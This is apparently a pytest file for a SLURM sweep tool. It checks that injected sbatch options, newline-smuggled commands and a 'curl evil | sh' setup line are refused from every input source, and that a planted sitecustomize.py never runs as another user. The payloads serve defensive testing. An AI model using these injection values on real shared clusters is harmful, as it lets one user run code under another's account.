"""Every value that reaches the batch script is checked where it is read, whatever its source
(command line, profile, sweep file, a sub-grid's resources block), by one function
(``plan.check_resources``): an sbatch option key is one option name (`mail-type=NONE --export`
smuggled a second option in, and another user's code ran as the sweep's owner), no control
characters anywhere, no memory size SLURM reads as "all of the node". A profile in the folder
a command runs in is taken only when it is the user's own."""
import os

import pytest
import yaml

from conftest import EXAMPLES, run_cli, tree

TINY = EXAMPLES / "tiny.py"

HOSTILE = [
    ({"sbatch_args": {"mail-type=NONE --export": "ALL,PYTHONPATH=/their/dir"}}, "not one sbatch option name"),
    ({"sbatch_args": {"mail-type END": True}}, "not one sbatch option name"),
    ({"sbatch_args": {"comment\n#SBATCH --export": "x"}}, "control characters"),
    ({"partition": "debug\nsource /their/env.sh"}, "control characters"),
    ({"account": "a\tb"}, "control characters"),
    ({"mem_gb": 1e-12}, "less than 1 MB"),
    ({"sbatch_args": {"mem-per-cpu": "0"}}, "all of a node's memory"),
    ({"setup": ["module load cuda\ncurl evil | sh"]}, "one line each"),
]


def _command_line(res: dict) -> list:
    out = []
    for key, value in res.items():
        if key == "sbatch_args":
            out += [f"--sbatch={k}" if v is True else f"--sbatch={k}={v}" for k, v in value.items()]
        elif key == "setup":
            out += [f"--setup={line}" for line in value]
        elif key == "mem_gb":
            out += ["--mem", repr(value)]
        else:
            out += [f"--{key}={value}"]
    return out


@pytest.mark.parametrize("source", ["command line", "profile", "sweep file", "sub-grid"])
@pytest.mark.parametrize("res, said", HOSTILE, ids=[str(i) for i in range(len(HOSTILE))])
def test_every_source_refuses_the_same_hostile_values(tmp_path, no_slurm, source, res, said):
    root = tmp_path / "runs"
    args = ["sweep", "--executor", "slurm", "--dry-run", "--root", root]
    if source == "command line":
        args += _command_line(res) + [TINY]
    elif source == "profile":
        (tmp_path / "p.yaml").write_text(yaml.safe_dump({"resources": res}))
        args += ["--profile", tmp_path / "p.yaml", TINY]
    else:
        block = {"grid": {"lr": [0.1]}, "resources": res} if source == "sweep file" else \
            {"subgrids": {"a": {"grid": {"lr": [0.1]}, "resources": res}}}
        (tmp_path / "sweep.yaml").write_text(yaml.safe_dump(block))
        args += ["-f", tmp_path / "sweep.yaml", TINY]
    proc = run_cli(*args)
    if source == "command line" and "=" in next(iter(res.get("sbatch_args") or {"": 0})):
        # `--sbatch mail-type=NONE --export=...` is the key mail-type with one value, quoted whole
        assert proc.returncode == 0, proc.stderr
        assert "#SBATCH --mail-type='NONE --export=ALL,PYTHONPATH=/their/dir'" in proc.stdout, proc.stdout
        return
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    lines = proc.stderr.strip().splitlines()
    errors = [ln for ln in lines if ln.startswith("ptslurm: error:")]
    assert len(errors) == 1 and said in errors[0] and "Traceback" not in proc.stderr, proc.stderr
    assert all(ln.startswith("ptslurm: ") for ln in lines), "every line is ptslurm's (no value printed raw)"
    assert tree(root) == set()


def test_a_profile_another_user_left_in_the_folder_is_not_taken(tmp_path, no_slurm, other_user):
    (tmp_path / "ptslurm.yaml").write_text(yaml.safe_dump({"resources": {"mem_gb": 2}}))
    os.chown(tmp_path / "ptslurm.yaml", other_user, -1)
    proc = run_cli("sweep", "--dry-run", "--root", tmp_path / "runs", TINY, cwd=tmp_path)
    assert proc.returncode == 2 and "belongs to ptslurm-other" in proc.stderr and "--profile" in proc.stderr, \
        proc.stderr
    named = run_cli("sweep", "--dry-run", "--profile", "ptslurm.yaml", "--root", tmp_path / "runs", TINY, cwd=tmp_path)
    assert named.returncode == 0, named.stderr


def test_a_profile_anyone_may_write_is_not_taken_unasked(tmp_path, no_slurm):
    (tmp_path / "ptslurm.yaml").write_text(yaml.safe_dump({"resources": {"mem_gb": 2}}))
    os.chmod(tmp_path / "ptslurm.yaml", 0o666)
    proc = run_cli("sweep", "--dry-run", "--root", tmp_path / "runs", TINY, cwd=tmp_path)
    assert proc.returncode == 2 and "may be written by anyone" in proc.stderr, proc.stderr
    os.chmod(tmp_path / "ptslurm.yaml", 0o664)  # umask 002's group-writable file is the user's normal
    assert run_cli("sweep", "--dry-run", "--root", tmp_path / "runs", TINY, cwd=tmp_path).returncode == 0


@pytest.mark.slurm
def test_another_users_sweep_file_cannot_smuggle_an_option_into_the_job(slurm_cluster, tmp_path, other_user):
    """The attack as it was made: user B leaves, in a shared folder, a sweep file whose
    sbatch_args key carries a second option (`--export=ALL,PYTHONPATH=<B's folder>`), and a
    `sitecustomize.py` there; user A sweeps with it on the cluster. B's code must never run
    as A: the sweep is refused with one line, nothing is queued or created."""
    import subprocess
    import time

    shared = tmp_path / "shared"
    (shared / "b").mkdir(parents=True)
    pwned = tmp_path / "pwned"
    (shared / "b" / "sitecustomize.py").write_text(f"open({str(pwned)!r}, 'a').write('ran\\n')\n")
    sweep_file = shared / "sweep.yaml"
    sweep_file.write_text(yaml.safe_dump({"grid": {"lr": [0.1, 0.2]}, "resources": {
        "sbatch_args": {"mail-type=NONE --export": f"ALL,PYTHONPATH={shared / 'b'}"}}}))
    for path in (shared, shared / "b", shared / "b" / "sitecustomize.py", sweep_file):
        os.chown(path, other_user, -1)
    os.chmod(tmp_path, 0o755)
    root = tmp_path / "runs"
    before = subprocess.run(["squeue", "-h", "-o", "%i"], capture_output=True, text=True).stdout.split()
    proc = run_cli("sweep", "--root", root, "-f", sweep_file, TINY, cwd=shared)
    assert proc.returncode == 2 and "not one sbatch option name" in proc.stderr, proc.stderr
    time.sleep(3)
    after = subprocess.run(["squeue", "-h", "-o", "%i"], capture_output=True, text=True).stdout.split()
    assert after == before or set(after) <= set(before), "nothing was queued"
    assert tree(root) == set() and not pwned.exists()
